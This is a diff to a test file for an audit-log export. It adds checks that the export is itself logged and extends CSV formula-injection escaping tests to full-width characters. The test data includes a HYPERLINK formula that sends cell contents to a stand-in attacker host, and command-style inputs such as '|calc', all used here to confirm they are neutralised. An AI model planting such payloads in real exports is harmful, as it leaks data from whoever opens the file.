@@ -87,18 +87,33 @@ describe('the export', () => {
     expect(lines[0]).toBe(
       '\ufeff"time","who","who (id)","what","kind","subject","subject (id)","setting","before","after"',
     );
-    expect(lines).toHaveLength(5);
-    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
-    expect(lines[1]).toContain(`"name","Contoso","' @SUM(A1)"`);
-    expect(lines[2]).toContain('"name","Contoso","Contoso Ltd"');
+    // The newest is this export.
+    expect(lines).toHaveLength(6);
+    expect(lines[1]).toContain('"exported","audit","Audit log"');
+    expect(lines[2]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
+    expect(lines[2]).toContain(`"name","Contoso","' @SUM(A1)"`);
+    expect(lines[3]).toContain('"name","Contoso","Contoso Ltd"');
   });
 
-  test.each(['=1', '+1', '-1', '@x', '\t=1', '\r=1', '  =1', '|calc', '%x'])(
+  test.each(['=1', '+1', '-1', '@x', '\t=1', '\r=1', '  =1', '|calc', '%x', '＝1', '＋1', ' －1', '＠x'])(
     'keeps %j from being read as a formula',
     (text) => {
       expect(csvField(text)).toBe(`"'${text}"`);
     },
   );
+
+  test.each(['csv', 'json'])('as %s is itself a line of the log, with what was chosen', async (format) => {
+    await desk.ask(`/audit/export.${format}?kind=mailbox`, { role: 'admin' });
+    const [entry] = (await desk.audit.page({ limit: 5 })).entries;
+    expect(entry).toMatchObject({
+      action: 'exported',
+      subject: { kind: 'audit' },
+      principal: { name: 'Mira Sund' },
+    });
+    expect(entry?.changes).toEqual(
+      expect.arrayContaining([expect.objectContaining({ name: 'kind', after: 'mailbox' })]),
+    );
+  });
 
   test('as JSON holds the same, and of what was chosen only', async () => {
     await record(5);
